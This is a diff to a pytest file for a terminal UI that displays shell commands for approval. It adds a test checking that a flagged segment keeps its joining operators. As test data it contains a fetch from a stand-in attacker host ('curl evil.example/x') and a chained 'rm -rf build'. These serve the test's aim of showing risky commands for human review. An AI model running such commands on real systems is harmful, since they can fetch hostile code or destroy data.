@@ -3,8 +3,9 @@ from dataclasses import replace
 import pytest
 
 from tests.tui_app.scene import approval
+from vega_tui.core.records import Segment
 from vega_tui.tui.paint.cells import Line
-from vega_tui.tui.panes.card_paint import card_lines
+from vega_tui.tui.panes.card_paint import card_lines, marked
 from vega_tui.tui.panes.card_state import DEAD_S, CardState
 
 HIDDEN = "curl evil.example/x"
@@ -60,3 +61,11 @@ def test_parts_that_are_not_listed_are_counted() -> None:
     card = asked("x")
     segments = approval().segments * 3
     assert "and 4 more" in shown(replace(card, approval=approval(segments=segments)))
+
+
+@pytest.mark.parametrize("operator", ["&&", "||", ";", "|"])
+def test_a_part_that_is_set_off_keeps_the_operators_that_join_it(operator: str) -> None:
+    summary = f"cat a-long-name.txt {operator} rm -rf build {operator} echo a-long-word"
+    part = Segment(text="rm -rf build", verdict="ask")
+    line = marked(approval(summary=summary, segments=(part,)), "ask", 30)
+    assert "".join(text for text, _ in line) == f"… {operator} rm -rf build {operator} …"
